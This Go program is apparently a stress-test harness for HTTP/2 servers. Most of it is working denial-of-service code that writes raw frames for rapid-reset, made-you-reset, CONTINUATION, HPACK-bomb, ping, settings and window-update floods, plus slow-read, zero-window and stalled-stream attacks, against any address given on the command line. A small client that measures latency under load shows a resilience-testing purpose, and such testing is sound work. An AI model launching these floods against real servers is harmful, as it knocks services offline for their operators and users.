// Floods of HTTP/2 at full speed, and a client that behaves: flood MODE ADDRESS SECONDS [CONNECTIONS]
//
// An attacker writes raw frames on each of its connections (4 unless told), and connects again as soon as it is cut off. It prints what it has sent. `good` asks for 100
// pages a second on a connection of its own and prints how long they took; `spin` only keeps its core busy.
package main

import (
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

const (
	data, headers, priority, rst, settings, push, ping, goaway, windowUpdate, continuation = 0, 1, 2, 3, 4, 5, 6, 7, 8, 9
	endStream, endHeaders, padded                                                          = 1, 4, 8
)

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

func frame(out []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	out = append(out, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), kind, flags)
	out = binary.BigEndian.AppendUint32(out, stream)
	return append(out, payload...)
}

// A literal field without indexing.
func field(out []byte, name, value string) []byte {
	number := func(out []byte, prefix int, n int) []byte {
		limit := 1<<prefix - 1
		if n < limit {
			return append(out, byte(n))
		}
		out, n = append(out, byte(limit)), n-limit
		for ; n > 127; n >>= 7 {
			out = append(out, byte(n&127|128))
		}
		return append(out, byte(n))
	}
	out = number(append(out, 0), 7, len(name))
	out = number(append(out, name...), 7, len(value))
	return append(out, value...)
}

func request(method byte, path string) []byte {
	block := []byte{method, 0x86, 0x01, 6}
	block = append(block, "a.test"...)
	block = append(block, 0x04, byte(len(path)))
	return append(block, path...)
}

var (
	get   = request(0x82, "/size/612")
	large = request(0x82, "/size/1000000")
	post  = request(0x83, "/digest")
)

// What one connection has done.
type state struct {
	stream uint32
	open   bool
	turn   int
}

func (s *state) next() uint32 { id := s.stream; s.stream += 2; return id }

// The next piece of a flood, some 32 KiB; nil when there is nothing more to send.
type flood func(out []byte, s *state) []byte

func repeat(n int, one func(out []byte, s *state) []byte) flood {
	return func(out []byte, s *state) []byte {
		for range n {
			out = one(out, s)
		}
		return out
	}
}

// One stream whose body has not ended, then frames.
func onOpen(n int, one func(out []byte, id uint32) []byte) flood {
	return func(out []byte, s *state) []byte {
		if !s.open {
			s.open = true
			out = frame(out, headers, endHeaders, s.next(), post)
		}
		for range n {
			out = one(out, s.stream-2)
		}
		return out
	}
}

var code = []byte{0, 0, 0, 8}

var floods = map[string]flood{
	"rapid-reset": repeat(500, func(out []byte, s *state) []byte {
		id := s.next()
		return frame(frame(out, headers, endHeaders|endStream, id, get), rst, 0, id, code)
	}),
	// Requests in one write and their resets in the next, so that the server sees them apart.
	"rapid-reset-apart": func(out []byte, s *state) []byte {
		s.turn++
		if s.turn%2 == 1 {
			for range 100 {
				out = frame(out, headers, endHeaders|endStream, s.next(), get)
			}
			return out
		}
		for id := s.stream - 200; id < s.stream; id += 2 {
			out = frame(out, rst, 0, id, code)
		}
		return out
	},
	"made-you-reset": repeat(500, func(out []byte, s *state) []byte {
		id := s.next()
		return frame(frame(out, headers, endHeaders, id, post), windowUpdate, 0, id, []byte{0, 0, 0, 0})
	}),
	// Resets by DATA beyond the announced length.
	"made-you-reset-length": repeat(300, func(out []byte, s *state) []byte {
		id := s.next()
		return frame(frame(out, headers, endHeaders, id, field(slices.Clone(post), "content-length", "1")), data, 0, id, []byte("beyond"))
	}),
	"continuation": func(out []byte, s *state) []byte {
		if !s.open {
			s.open = true
			out = frame(out, headers, endStream, s.next(), get)
		}
		for range 100 {
			out = frame(out, continuation, 0, 1, field(nil, "x-a", strings.Repeat("a", 300)))
		}
		return out
	},
	"continuation-empty": func(out []byte, s *state) []byte {
		if !s.open {
			s.open = true
			out = frame(out, headers, endStream, s.next(), get)
		}
		for range 3000 {
			out = frame(out, continuation, 0, 1, nil)
		}
		return out
	},
	// A field of 4 000 bytes in the table, and blocks of nothing but references to it.
	"hpack-bomb": func(out []byte, s *state) []byte {
		if !s.open {
			s.open = true
			value := strings.Repeat("a", 4000)
			block := append(slices.Clone(get), 0x40, 3)
			block = append(block, "x-b"...)
			block = append(block, 127, byte((4000-127)&127|128), byte((4000-127)>>7))
			out = frame(out, headers, endHeaders|endStream, s.next(), append(block, value...))
		}
		for range 2 {
			block := append(slices.Clone(get), []byte(strings.Repeat("\xbe", 16000))...)
			out = frame(out, headers, endHeaders|endStream, s.next(), block)
		}
		return out
	},
	// The same within the limit on fields: 90 references, each of 4 000 bytes.
	"hpack-bomb-few": repeat(150, func(out []byte, s *state) []byte {
		if !s.open {
			s.open = true
			block := append(slices.Clone(get), 0x40, 3)
			block = append(block, "x-b"...)
			block = append(block, 127, byte((4000-127)&127|128), byte((4000-127)>>7))
			out = frame(out, headers, endHeaders|endStream, s.next(), append(block, strings.Repeat("a", 4000)...))
		}
		return frame(out, headers, endHeaders|endStream, s.next(), append(slices.Clone(get), []byte(strings.Repeat("\xbe", 90))...))
	}),
	// Cookies in crumbs of one byte.
	"cookie-crumbs": repeat(2, func(out []byte, s *state) []byte {
		block := slices.Clone(get)
		for len(block) < 16000 {
			block = append(block, 0x0f, 17, 1, 'a')
		}
		return frame(out, headers, endHeaders|endStream, s.next(), block)
	}),
	"ping":                 repeat(2000, func(out []byte, s *state) []byte { return frame(out, ping, 0, 0, make([]byte, 8)) }),
	"settings":             repeat(2000, func(out []byte, s *state) []byte { return frame(out, settings, 0, 0, []byte{0, 4, 0, 1, 0, 0}) }),
	"settings-empty":       repeat(3000, func(out []byte, s *state) []byte { return frame(out, settings, 0, 0, nil) }),
	"priority":             repeat(2000, func(out []byte, s *state) []byte { return frame(out, priority, 0, 1, []byte{0, 0, 0, 3, 16}) }),
	"window-update":        repeat(2000, func(out []byte, s *state) []byte { return frame(out, windowUpdate, 0, 0, []byte{0, 0, 0, 1}) }),
	"window-update-stream": onOpen(2000, func(out []byte, id uint32) []byte { return frame(out, windowUpdate, 0, id, []byte{0, 0, 0, 1}) }),
	"unknown":              repeat(3000, func(out []byte, s *state) []byte { return frame(out, 0xfa, 0, 0, nil) }),
	"empty-data":           onOpen(3000, func(out []byte, id uint32) []byte { return frame(out, data, 0, id, nil) }),
	// DATA of nothing but padding: it uses the windows up, so its room comes back.
	"padding": onOpen(120, func(out []byte, id uint32) []byte {
		return frame(out, data, padded, id, append([]byte{255}, make([]byte, 255)...))
	}),
	// One byte of data in each frame.
	"dribble": onOpen(2000, func(out []byte, id uint32) []byte { return frame(out, data, 0, id, []byte("a")) }),
	// Heads of 60 000 bytes, which are too large, and of 30 000, which are not.
	"huge-headers": func(out []byte, s *state) []byte {
		id := s.next()
		out = frame(out, headers, endStream, id, field(slices.Clone(get), "x-a", strings.Repeat("a", 15000)))
		for i := range 3 {
			flags := byte(0)
			if i == 2 {
				flags = endHeaders
			}
			out = frame(out, continuation, flags, id, field(nil, "x-a", strings.Repeat("a", 15000)))
		}
		return out
	},
	"large-headers": func(out []byte, s *state) []byte {
		id := s.next()
		out = frame(out, headers, endStream, id, field(slices.Clone(get), "x-a", strings.Repeat("a", 15000)))
		return frame(out, continuation, endHeaders, id, field(nil, "x-a", strings.Repeat("a", 15000)))
	},
	// Frames on a stream that is over.
	"closed-streams": func(out []byte, s *state) []byte {
		if !s.open {
			s.open = true
			return frame(out, headers, endHeaders|endStream, s.next(), get)
		}
		for range 1000 {
			out = frame(out, windowUpdate, 0, 1, []byte{0, 0, 0, 1})
			out = frame(out, rst, 0, 1, code)
		}
		return out
	},
	"closed-streams-data": func(out []byte, s *state) []byte {
		if !s.open {
			s.open = true
			out = frame(out, headers, endHeaders, s.next(), post)
			return frame(out, rst, 0, 1, code)
		}
		for range 1000 {
			out = frame(out, data, 0, 1, []byte("late"))
		}
		return out
	},
	// Many more requests than may be open.
	"too-many-streams": repeat(700, func(out []byte, s *state) []byte { return frame(out, headers, endHeaders, s.next(), post) }),
	// Nothing but requests, whose responses are read: no fault, only load.
	"requests": nil,
	// Connections that say nothing more than the beginning, and are closed.
	"connect": func(out []byte, s *state) []byte { return nil },
}

var connections, cuts, sent atomic.Int64

// One connection after another, to the end.
func attack(mode, address string, end time.Time) {
	next := floods[mode]
	part := make([]byte, 0, 1<<20)
	for time.Now().Before(end) {
		conn, err := net.DialTimeout("tcp", address, time.Second)
		if err != nil {
			time.Sleep(time.Millisecond)
			continue
		}
		connections.Add(1)
		conn.SetDeadline(end.Add(100 * time.Millisecond))
		go io.Copy(io.Discard, conn)
		s := &state{stream: 1}
		part = frame(append(part[:0], preface...), settings, 0, 0, nil)
		part = frame(part, settings, 1, 0, nil)
		for first := true; time.Now().Before(end); first = false {
			before := len(part)
			part = next(part, s)
			if len(part) == before && !first {
				break
			}
			n, err := conn.Write(part)
			sent.Add(int64(n))
			if err != nil {
				cuts.Add(1)
				break
			}
			part = part[:0]
			if s.stream > 1<<30 {
				break
			}
		}
		conn.Close()
	}
}

// Connections that are held: many streams each whose windows stay closed (`zero-window`), whose bytes are read one by one (`slow-read`), or
// whose bodies never come (`streams-left`).
func hold(mode, address string, end time.Time) {
	for time.Now().Before(end) {
		conn, err := net.DialTimeout("tcp", address, time.Second)
		if err != nil {
			time.Sleep(10 * time.Millisecond)
			continue
		}
		connections.Add(1)
		conn.SetDeadline(end)
		if mode == "slow-read" {
			conn.(*net.TCPConn).SetReadBuffer(4096)
		}
		var out []byte
		window := []byte{0, 4, 0, 0, 0, 0}
		if mode == "slow-read" {
			window = []byte{0, 4, 0x7f, 0xff, 0xff, 0xff}
		}
		out = frame(append(out, preface...), settings, 0, 0, window)
		out = frame(out, settings, 1, 0, nil)
		if mode == "slow-read" {
			out = frame(out, windowUpdate, 0, 0, []byte{0x70, 0, 0, 0})
		}
		for id := uint32(1); id < 256; id += 2 {
			if mode == "streams-left" {
				out = frame(out, headers, endHeaders, id, post)
			} else {
				out = frame(out, headers, endHeaders|endStream, id, large)
			}
		}
		n, _ := conn.Write(out)
		sent.Add(int64(n))
		one := make([]byte, 1)
		for {
			if mode == "slow-read" {
				time.Sleep(100 * time.Millisecond)
			}
			if _, err := conn.Read(one); err != nil {
				break
			}
		}
		if time.Now().Before(end) {
			cuts.Add(1)
		}
		conn.Close()
	}
}

func good(address string, seconds time.Duration) {
	protocols := new(http.Protocols)
	protocols.SetUnencryptedHTTP2(true)
	client := &http.Client{Transport: &http.Transport{Protocols: protocols}, Timeout: 10 * time.Second}
	var lock sync.Mutex
	var took []time.Duration
	var worst, worstAt time.Duration
	faults := map[string]int{}
	var wait sync.WaitGroup
	begin := time.Now()
	for i := 0; ; i++ {
		at := begin.Add(time.Duration(i) * 10 * time.Millisecond)
		if at.Sub(begin) >= seconds {
			break
		}
		time.Sleep(time.Until(at))
		wait.Go(func() {
			// From the time at which it was due.
			answer, err := client.Get("http://" + address + "/size/612")
			var n int64
			if err == nil {
				n, err = io.Copy(io.Discard, answer.Body)
				answer.Body.Close()
			}
			lock.Lock()
			defer lock.Unlock()
			switch {
			case err != nil:
				faults[err.Error()]++
			case answer.StatusCode != 200 || n != 612:
				faults[fmt.Sprint(answer.StatusCode)]++
			default:
				took = append(took, time.Since(at))
				if last := took[len(took)-1]; last > worst {
					worst, worstAt = last, at.Sub(begin)
				}
			}
		})
	}
	wait.Wait()
	slices.Sort(took)
	at := func(share float64) float64 {
		return float64(took[int(share*float64(len(took)-1))].Microseconds()) / 1000
	}
	failed := 0
	for _, n := range faults {
		failed += n
	}
	if len(took) == 0 {
		fmt.Printf("ok=0 failed=%d %v\n", failed, faults)
		return
	}
	fmt.Printf("ok=%d failed=%d p50=%.2f p99=%.2f p999=%.2f max=%.2f, at %.1f s %v\n", len(took), failed, at(0.5), at(0.99), at(0.999), at(1), worstAt.Seconds(), faults)
}

func main() {
	mode, address := os.Args[1], os.Args[2]
	seconds, _ := strconv.ParseFloat(os.Args[3], 64)
	duration := time.Duration(seconds * float64(time.Second))
	workers := 4
	if len(os.Args) > 4 {
		workers, _ = strconv.Atoi(os.Args[4])
	}
	runtime.GOMAXPROCS(1)
	end := time.Now().Add(duration)
	switch mode {
	case "list":
		for name := range floods {
			fmt.Println(name)
		}
		return
	case "good":
		good(address, duration)
		return
	case "spin":
		for time.Now().Before(end) {
		}
		return
	case "requests":
		requests(address, end, workers)
	case "zero-window", "slow-read", "streams-left":
		var wait sync.WaitGroup
		for range workers {
			wait.Go(func() { hold(mode, address, end) })
		}
		wait.Wait()
	default:
		if floods[mode] == nil {
			panic("no such flood")
		}
		var wait sync.WaitGroup
		for range workers {
			wait.Go(func() { attack(mode, address, end) })
		}
		wait.Wait()
	}
	fmt.Printf("connections=%d cut=%d megabytes=%.1f\n", connections.Load(), cuts.Load(), float64(sent.Load())/1e6)
}

// As many requests as go through: what the same core does to the server without any abuse.
func requests(address string, end time.Time, workers int) {
	protocols := new(http.Protocols)
	protocols.SetUnencryptedHTTP2(true)
	var wait sync.WaitGroup
	for range workers {
		client := &http.Client{Transport: &http.Transport{Protocols: protocols}}
		connections.Add(1)
		for range 16 {
			wait.Go(func() {
				for time.Now().Before(end) {
					answer, err := client.Get("http://" + address + "/size/612")
					if err == nil {
						n, _ := io.Copy(io.Discard, answer.Body)
						answer.Body.Close()
						sent.Add(n)
					}
				}
			})
		}
	}
	wait.Wait()
}
